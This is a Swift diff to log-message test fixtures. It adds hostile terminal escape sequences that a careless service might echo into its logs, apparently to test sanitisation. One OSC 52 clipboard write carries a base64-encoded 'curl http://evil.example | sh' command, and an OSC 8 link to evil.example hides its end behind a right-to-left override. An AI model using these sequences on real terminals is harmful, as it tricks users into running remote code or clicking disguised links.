@@ -19,13 +19,18 @@ enum LogMessages {
     static let noHealthyTargets = "no healthy targets in target group"
     static let upstreamReset = "upstream connect error: connection reset by peer"
 
-    /// A red-text ANSI sequence and a clipboard-writing OSC 52 sequence, as a careless service
-    /// might echo them from user input.
-    static func hostile(_ variant: Int) -> String {
-        if variant % 2 == 0 {
-            return "promo code rejected: \u{1B}[31mSPRING26\u{1B}[0m\u{1B}[2K (rule 7 of 6)"
-        }
-        return "bad header x-promo=\u{1B}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u{07} ignored"
+    /// Input a careless service echoes into its log: colour and erase-line (CSI), a clipboard write
+    /// (OSC 52), an 8-bit CSI that clears the screen after a carriage return, and a hyperlink (OSC 8)
+    /// with a right-to-left override hiding its end.
+    static let hostileEchoes = [
+        "\u{1B}[31mSPRING26\u{1B}[0m\u{1B}[2K",
+        "\u{1B}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u{07}",
+        "\r\u{9B}2J\u{9B}H",
+        "\u{1B}]8;;http://evil.example/\u{1B}\\\u{202E}kcilc\u{1B}]8;;\u{1B}\\",
+    ]
+
+    static func echoingHostileInput(_ line: String, variant: Int) -> String {
+        "\(line) (client sent x-promo=\(hostileEchoes[variant % hostileEchoes.count]))"
     }
 
     static func memoryPressure(percent: Int, limitMiB: Int) -> String {
